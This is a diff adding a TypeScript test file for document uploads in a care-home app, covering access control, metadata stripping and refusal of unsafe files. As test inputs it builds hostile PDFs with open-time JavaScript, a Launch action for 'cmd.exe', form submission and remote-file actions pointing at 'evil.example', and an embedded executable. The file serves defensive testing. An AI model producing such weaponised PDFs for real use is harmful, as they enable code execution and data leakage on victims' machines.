@@ -1,0 +1,146 @@
+import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib'
+import sharp from 'sharp'
+import { beforeAll, describe, expect, it } from 'vitest'
+import { pagesOf } from '../../server/files/pdf.ts'
+import type { TestBrowser } from '../support/browser.ts'
+import { freshDatabase } from '../support/database.ts'
+import { type TestServer, testServer } from '../support/testServer.ts'
+import { houseWorld, insertWorker } from '../support/world.ts'
+
+/** A PDF of two pages, with what the test puts into it. */
+async function pdfWith(change: (pdf: PDFDocument) => unknown = () => undefined): Promise<Buffer> {
+  const pdf = await PDFDocument.create()
+  pdf.addPage([200, 200])
+  pdf.addPage([200, 200])
+  await change(pdf)
+  // Where it lies in the file must not matter: objects are packed into streams.
+  return Buffer.from(await pdf.save({ useObjectStreams: true }))
+}
+
+describe('the file of a document', () => {
+  let server: TestServer
+  let office: TestBrowser
+  let carer: TestBrowser
+  let clientId: string
+
+  beforeAll(async () => {
+    const db = await freshDatabase()
+    const house = await houseWorld(db)
+    await insertWorker(db, house, 'manager', 'juhataja@koduke.example')
+    await insertWorker(db, house, 'carer', 'hooldaja@koduke.example')
+    clientId = await house.client({ first_name: 'Õie', last_name: 'Šmidt' })
+    server = await testServer(db)
+    office = await server.browser().signIn('juhataja@koduke.example')
+    carer = await server.browser().signIn('hooldaja@koduke.example')
+  })
+
+  const paper = async (): Promise<string> => {
+    const { body } = await office.post(`/api/client/${clientId}/documents/save`, { data: { kind: 'leping', title: 'Leping' } })
+    return body.document.id
+  }
+  const upload = async (bytes: Buffer, name = 'leping.pdf', type = 'application/pdf') => {
+    const form = new FormData()
+    form.set('id', await paper())
+    form.set('image', new Blob([new Uint8Array(bytes)], { type }), name)
+    return office.send('POST', '/api/documents/file', form)
+  }
+  const show = (address: string, { cookies }: TestBrowser = office) =>
+    fetch(`http://127.0.0.1:${server.port}${address}`, { headers: { Cookie: `kd=${cookies.get('kd')}` } })
+
+  it('is shown as the PDF that came, and only to whoever may see it', async () => {
+    const bytes = await pdfWith()
+    const { status, body } = await upload(bytes)
+    expect([status, body.document.mime, body.document.pages]).toEqual([200, 'application/pdf', 2])
+    const shown = await show(body.document.file)
+    expect([shown.status, shown.headers.get('content-type')]).toEqual([200, 'application/pdf'])
+    expect(shown.headers.get('x-content-type-options')).toBe('nosniff')
+    expect(Buffer.from(await shown.arrayBuffer()).equals(bytes)).toBe(true)
+    expect((await show(body.document.file, carer)).status).toBe(403)
+    expect((await fetch(`http://127.0.0.1:${server.port}${body.document.file}`)).status).toBe(401)
+  })
+
+  it('that is a picture is made anew without its metadata, with all of it in sight', async () => {
+    const photo = sharp({ create: { width: 900, height: 1400, channels: 3, background: '#1F5E4F' } })
+    const bytes = await photo
+      .withExif({ IFD0: { Copyright: 'SALAJANE KOHT' } })
+      .jpeg()
+      .toBuffer()
+    const { body } = await upload(bytes, 'tõend.pdf')
+    expect([body.document.mime, body.document.pages]).toEqual(['image/webp', null])
+    const shown = Buffer.from(await (await show(body.document.file)).arrayBuffer())
+    expect(await sharp(shown).metadata()).toMatchObject({ format: 'webp', width: 900, height: 1400 })
+    expect(shown.includes('SALAJANE KOHT')).toBe(false)
+  })
+
+  const lies: [string, () => Promise<Buffer> | Buffer][] = [
+    ['a page', () => Buffer.from('<!doctype html><script>alert(1)</script>')],
+    ['a page with a PDF behind it', async () => Buffer.concat([Buffer.from('<script>alert(1)</script>'), await pdfWith()])],
+    ['a program', () => Buffer.from('MZ\u0090\u0000')],
+    ['only the beginning of a PDF', () => Buffer.from('%PDF-1.7\nmidagi muud')],
+    ['half a PDF', async () => (await pdfWith()).subarray(0, 200)],
+    ['an SVG', () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>')],
+    ['nothing', () => Buffer.alloc(0)],
+  ]
+  for (const [what, make] of lies) {
+    it(`is refused when it is ${what}, whatever it is called`, async () => {
+      const { status, body } = await upload(await make())
+      expect([status, body.code]).toEqual([422, 'bad-document'])
+    })
+  }
+
+  const dict = (pdf: PDFDocument, values: Record<string, unknown>) => pdf.context.obj(values as never)
+  const onOpen = (pdf: PDFDocument, action: Record<string, unknown>) => pdf.catalog.set(PDFName.of('OpenAction'), dict(pdf, action))
+  const acting: [string, (pdf: PDFDocument) => unknown][] = [
+    ['runs a script when it is opened', (pdf) => pdf.addJavaScript('tere', 'app.alert(1)')],
+    ['runs a script of a page', (pdf) => pdf.getPage(0).node.set(PDFName.of('AA'), dict(pdf, { O: { S: 'JavaScript', JS: PDFString.of('1') } }))],
+    ['starts a program', (pdf) => onOpen(pdf, { S: 'Launch', F: PDFString.of('cmd.exe') })],
+    ['sends a form away', (pdf) => onOpen(pdf, { S: 'SubmitForm', F: PDFString.of('https://evil.example') })],
+    ['opens another file', (pdf) => onOpen(pdf, { S: 'GoToR', F: PDFString.of('//evil.example/a.pdf') })],
+    ['carries a file', (pdf) => pdf.attach(Buffer.from('MZ'), 'a.exe', { mimeType: 'application/octet-stream' })],
+    ['is locked by a password', (pdf) => pdf.encrypt({ userPassword: 'a', ownerPassword: 'b' })],
+  ]
+  for (const [what, change] of acting) {
+    it(`is refused in plain words when it ${what}`, async () => {
+      const { status, body } = await upload(await pdfWith(change))
+      expect([status, body.code]).toEqual([422, 'unsafe-document'])
+      expect(body.errors.image[0]).toContain('Prindi see uueks PDF-iks')
+    })
+  }
+
+  it('is refused above twenty megabytes', async () => {
+    expect((await upload(Buffer.alloc(21 * 1024 * 1024, 1))).status).toBe(413)
+  })
+
+  it('stands with the others in one PDF, pictures on pages of their own', async () => {
+    const answer = await show(`/api/client/${clientId}/documents.pdf`)
+    expect(answer.headers.get('content-type')).toBe('application/pdf')
+    // The list, two pages of the first and the picture of the second.
+    expect(await pagesOf(Buffer.from(await answer.arrayBuffer()))).toBe(4)
+    expect((await show(`/api/client/${clientId}/documents.pdf`, carer)).status).toBe(403)
+  })
+
+  it('of a reservation contract is drawn from the record, numbered and kept', async () => {
+    const terms = { client_id: clientId, from: '2026-12-01', until: '2026-12-31', daily_cents: 1500, signer: 'Žanna Šmidt', house_signer: 'Ülle Õun' }
+    const numbers: string[] = []
+    for (const key of ['a', 'b']) {
+      const { status, body } = await office.post('/api/reservation-contract/', { ...terms, signer: `${terms.signer} ${key}` })
+      expect([status, body.document.kind, body.document.mime]).toEqual([200, 'broneerimisleping', 'application/pdf'])
+      numbers.push(body.document.number)
+      const pdf = await PDFDocument.load(Buffer.from(await (await show(body.document.file)).arrayBuffer()))
+      expect([pdf.getTitle(), pdf.getPage(0).getSize().width]).toEqual([`Broneerimisleping nr ${body.document.number}`, 595.28])
+    }
+    expect(numbers).toEqual(['BL-2026-001', 'BL-2026-002'])
+    const wrong = await office.post('/api/reservation-contract/', { ...terms, until: '2026-11-01' })
+    expect(Object.keys(wrong.body.errors)).toEqual(['until'])
+  })
+
+  it('is closed by the specification’s GET only from our own page', async () => {
+    const id = await paper()
+    const path = `/api/client/${clientId}/document/destroy?id=${id}`
+    const bare = await fetch(`http://127.0.0.1:${server.port}${path}`, {
+      headers: { Cookie: `kd=${office.cookies.get('kd')}`, Authorization: `Bearer ${office.token}` },
+    })
+    expect(bare.status).toBe(419)
+    expect((await office.send('DELETE', `/api/client/${clientId}/document?id=${id}`)).body.document.state).toBe('suletud')
+  })
+})
